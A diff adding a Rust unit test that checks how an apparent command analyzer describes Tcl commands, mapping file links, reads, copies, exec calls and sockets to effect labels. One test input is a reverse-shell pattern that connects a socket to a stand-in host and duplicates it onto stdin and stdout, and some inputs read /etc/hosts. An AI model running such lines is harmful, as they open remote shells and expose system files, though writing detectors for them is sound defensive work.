@@ -437,3 +437,24 @@ fn bounds() {
         assert!(took < Duration::from_secs(3), "{head}: {took:?}");
     }
 }
+
+#[test]
+fn tcl_options_of_commands_of_packages_are_no_paths() {
+    check(&[
+        ("link -sym /etc/hosts /srv/l", &["link /etc/hosts <- /srv/l"]),
+        ("load -lazy /srv/x.so", &["load /srv/x.so"]),
+        ("fileutil::cat -encoding utf-8 /etc/hosts", &["read /etc/hosts"]),
+        ("fileutil::install -m 755 /srv/a /srv/b", &["copy /srv/a -> /srv/b"]),
+        ("chown root {/srv/a /srv/b}", &["owner root: /srv/a", "owner root: /srv/b"]),
+        (
+            "set s [socket h.example 99]; dup $s stdin; dup $s stdout",
+            &["connect h.example 99", "attach"],
+        ),
+        ("loop i 0 3 {exec id}", &["argv id"]),
+        ("try_eval {exec id} {exec who}", &["argv id", "argv who"]),
+        ("for_file line /srv/x {puts hello}", &["read /srv/x"]),
+        ("exp_open -i 3", &[]),
+        ("http::get x", &[]),
+        ("package require -exact http 2.7", &[]),
+    ]);
+}
